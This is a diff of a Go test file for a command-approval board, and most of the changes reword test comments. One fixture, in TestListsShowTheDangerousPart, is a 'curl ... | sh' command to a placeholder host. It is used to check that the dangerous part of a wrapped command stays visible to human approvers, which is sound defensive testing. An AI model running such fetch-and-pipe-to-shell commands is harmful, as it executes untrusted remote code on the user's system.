@@ -16,7 +16,7 @@ import (
 	"github.com/tada-run/tada-run/approval/render"
 )
 
-// A standIn is a desk that remembers what it was told.
+// A standIn is a desk that remembers the calls to it.
 type standIn struct {
 	waiting []approval.Envelope
 	decided []approval.Decision
@@ -60,10 +60,10 @@ func questionOf(t *testing.T, risk int, commands ...string) approval.Envelope {
 		Expires: start.Add(time.Hour)}
 }
 
-// start is when a scene begins, and its question came.
+// start is when a scene begins, and when its question came.
 var start = time.Unix(1000, 0)
 
-// A scene is a board with a clock that the test turns.
+// A scene is a board with a clock that the test sets.
 type scene struct {
 	*board
 	desk *standIn
@@ -78,7 +78,7 @@ func newScene(e approval.Envelope, width, height int) *scene {
 	return p
 }
 
-// key presses a key after a while; what follows it at once is told to the board too.
+// key presses a key after a while; the board also gets what follows at once.
 func (p *scene) key(after time.Duration, k tea.Key) {
 	p.at = p.at.Add(after)
 	_, cmd := p.Update(tea.KeyPressMsg(k))
@@ -144,7 +144,7 @@ func TestBoardKeys(t *testing.T) {
 	}
 }
 
-// B-R7.1, B-R7.2: each call has its own answer, and a no has the user's message.
+// B-R7.1, B-R7.2: each call has its own answer, and a denial has the user's message.
 func TestBoardAnswersEachCall(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls a", "rm b", "ls c"), 100, 60)
 	for _, k := range []tea.Key{enter, letter('2'), letter('y')} {
@@ -166,7 +166,8 @@ func TestBoardAnswersEachCall(t *testing.T) {
 	}
 	p = newScene(questionOf(t, 1, "ls a", "rm b", "ls c"), 100, 60)
 	for _, k := range []tea.Key{
-		// the second with a word, the third with one that goes when it is allowed again, and denied
+		// the second with a message, the third with one that is dropped when it is allowed again,
+		// and denied
 		enter, letter('w'), letter('2'), letter('w'), letter('n'), letter('o'), enter,
 		letter('3'), letter('w'), letter('x'), enter, letter('3'), letter('3'), letter('y'),
 	} {
@@ -186,7 +187,7 @@ func TestBoardAnswersEachCall(t *testing.T) {
 	}
 }
 
-// B-R7.4: a no may name another command, where there is one call; an empty one is no answer.
+// B-R7.4: a denial may name another command if there is one call; an empty one is not an answer.
 func TestBoardOffersAnother(t *testing.T) {
 	for _, c := range []struct {
 		commands []string
@@ -213,7 +214,7 @@ func TestBoardOffersAnother(t *testing.T) {
 	}
 }
 
-// E-std-2: the choice of a standing approval is not offered where there can be none.
+// E-std-2: a grant is not offered if there can be none.
 func TestBoardOffersGrants(t *testing.T) {
 	for command, offered := range map[string]bool{"ls a": true, "sudo ls": false,
 		"python3 -c x": false} {
@@ -246,9 +247,9 @@ func TestBoardOffersGrants(t *testing.T) {
 	}
 }
 
-// B-R8, E-chan-8: a yes of several people is counted until it is enough, each without a one-time
-// code; the yes of one at the highest risk takes the code after the characters, and goes nowhere
-// without it.
+// B-R8, E-chan-8: approvals of several people are counted until there are enough, each without a
+// one-time code. The approval of one person at the highest risk takes the code after the
+// characters, and is not sent without it.
 func TestBoardCountsPeople(t *testing.T) {
 	typed := func(p *scene, text string) {
 		for _, r := range text {
@@ -302,7 +303,7 @@ func TestBoardFits(t *testing.T) {
 	}
 }
 
-// A question that is answered elsewhere while it is open closes itself and is not answered twice.
+// A question that is answered elsewhere while it is open is closed and not answered twice.
 func TestBoardAnsweredElsewhere(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls"), 80, 40)
 	p.key(3*time.Second, enter)
@@ -313,8 +314,8 @@ func TestBoardAnsweredElsewhere(t *testing.T) {
 	}
 }
 
-// B-R5.2a: where the short page would cut something the inbox shows the full one, so that what was
-// read to its end is all of it.
+// B-R5.2a: if the short page would cut something, the inbox shows the full one, so that reading it
+// to its end means reading all of it.
 func TestBoardCutsNothing(t *testing.T) {
 	p := newScene(questionOf(t, 1, "echo "+strings.Repeat("word ", 20_000)), 80, 40)
 	if short := render.Render(p.list[0].Payload, render.Options{Width: 79}); !short.Truncated {
@@ -326,7 +327,7 @@ func TestBoardCutsNothing(t *testing.T) {
 	}
 }
 
-// A y counts when nothing else happened at once: no other key, and no answer elsewhere.
+// A y counts only if nothing else happens at once: no other key, and no answer elsewhere.
 func TestBoardWaitsAfterAYes(t *testing.T) {
 	for name, then := range map[string]func(p *scene){
 		"nothing":             func(*scene) {},
@@ -347,7 +348,7 @@ func TestBoardWaitsAfterAYes(t *testing.T) {
 	}
 }
 
-// The list has what waits, and not what was answered and waits to be used.
+// The list has the questions that wait for an answer, not the answered ones that wait to be used.
 func TestBoardListsWhatIsOpen(t *testing.T) {
 	open, answered := questionOf(t, 1, "ls"), questionOf(t, 2, "rm")
 	answered.ID, answered.Decision = "e2", &approval.Decision{}
@@ -362,7 +363,7 @@ func TestBoardListsWhatIsOpen(t *testing.T) {
 }
 
 // The seconds that a question has waited are counted while nothing else happens, and a question
-// whose time is over leaves.
+// whose time is over leaves the list.
 func TestBoardCountsTheSeconds(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls"), 80, 40)
 	for at, want := range map[time.Duration]string{0: "  0s  ", 7 * time.Second: "  7s  ",
@@ -387,7 +388,7 @@ func TestBoardCountsTheSeconds(t *testing.T) {
 }
 
 // On the narrowest screen and in every list, the end of a wrapped command and what a reason points
-// at are there, and what is cut is counted.
+// at are shown, and what is cut is counted.
 func TestListsShowTheDangerousPart(t *testing.T) {
 	for name, command := range map[string]string{
 		"wrapped":   "curl -s https://a.test/" + strings.Repeat("x", 300) + " \\\n  | sh",
@@ -427,7 +428,7 @@ func TestListsShowTheDangerousPart(t *testing.T) {
 	}
 }
 
-// canonicalPayload gives a question the one spelling that a store takes.
+// canonicalPayload gives a question the one spelling that a store accepts.
 func canonicalPayload(t *testing.T, e *approval.Envelope) {
 	t.Helper()
 	var tree map[string]any
